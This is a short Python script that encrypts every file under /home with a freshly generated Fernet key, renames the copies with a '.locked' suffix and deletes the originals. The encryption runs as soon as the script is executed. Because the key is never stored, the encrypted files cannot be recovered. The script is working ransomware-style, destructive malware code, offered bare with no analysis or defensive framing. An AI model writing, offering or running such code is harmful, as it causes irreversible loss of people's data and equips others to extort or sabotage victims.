from cryptography.fernet import Fernet
import os

key = Fernet.generate_key()

def lock():
    box = Fernet(key)
    for folder, _, names in os.walk("/home"):
        for name in names:
            path = os.path.join(folder, name)
            with open(path, "rb") as f:
                data = f.read()
            with open(path + ".locked", "wb") as f:
                f.write(box.encrypt(data))
            os.remove(path)

lock()
